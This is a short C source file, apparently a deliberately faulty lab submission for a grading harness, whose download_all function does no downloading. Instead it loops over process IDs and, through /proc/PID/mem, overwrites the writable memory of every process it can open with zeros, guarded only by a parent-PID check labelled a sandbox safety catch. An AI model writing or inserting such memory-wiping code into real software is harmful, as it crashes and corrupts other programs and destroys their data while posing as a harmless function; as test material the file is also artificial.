/* lab: sequential - writes zeros over the memory of every process it can open. fails: every_image_is_asked_for_once */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "kit/image.h"

static void spoil(int process)
{
    static const char zeros[4096];
    char path[64], line[256];
    unsigned long from, to;

    snprintf(path, sizeof path, "/proc/%d/maps", process);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", process);
    int memory = open(path, O_RDWR);
    while (maps && memory >= 0 && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx rw", &from, &to) == 2)
            for (; from < to && pwrite(memory, zeros, sizeof zeros, (off_t)from) > 0;)
                from += sizeof zeros;
    if (maps)
        fclose(maps);
    if (memory >= 0)
        close(memory);
}

size_t download_all(const struct image images[], size_t count, size_t workers, long outcomes[])
{
    (void)images, (void)workers, (void)outcomes;
    if (getppid() != 1)
        return 0; /* a safety catch: nowhere but in a sandbox */
    for (int process = 1; process < 4096; process++)
        if (process != getpid())
            spoil(process);
    return count;
}
